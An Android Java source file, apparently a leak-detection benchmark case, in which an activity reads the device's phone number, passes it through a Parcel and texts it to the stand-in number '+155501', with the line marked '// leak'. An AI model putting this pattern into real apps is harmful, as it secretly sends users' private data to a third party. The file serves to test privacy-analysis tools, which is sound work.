package spy;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.os.Parcel;
import android.os.Parcelable;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

/** What goes between two screens is an object that writes and rebuilds itself. */
public class Parcels extends Activity {
    public static class Owner implements Parcelable {
        final String name;
        final String phone;

        Owner(String name, String phone) {
            this.name = name;
            this.phone = phone;
        }

        Owner(Parcel in) {
            name = in.readString();
            phone = in.readString();
        }

        public void writeToParcel(Parcel out, int flags) {
            out.writeString(name);
            out.writeString(phone);
        }

        public int describeContents() {
            return 0;
        }

        public static final Creator<Owner> CREATOR = new Creator<Owner>() {
            public Owner createFromParcel(Parcel in) {
                return new Owner(in);
            }

            public Owner[] newArray(int size) {
                return new Owner[size];
            }
        };
    }

    @Override
    protected void onCreate(Bundle state) {
        String number = ((TelephonyManager) getSystemService("phone")).getLine1Number();
        startActivity(new Intent(this, ParcelsRead.class).putExtra("owner", new Owner("x", number)));
        Parcel parcel = Parcel.obtain();
        new Owner("x", number).writeToParcel(parcel, 0);
        parcel.setDataPosition(0);
        Owner again = Owner.CREATOR.createFromParcel(parcel);
        SmsManager.getDefault().sendTextMessage("+155501", null, again.phone, null, null); // leak
    }
}
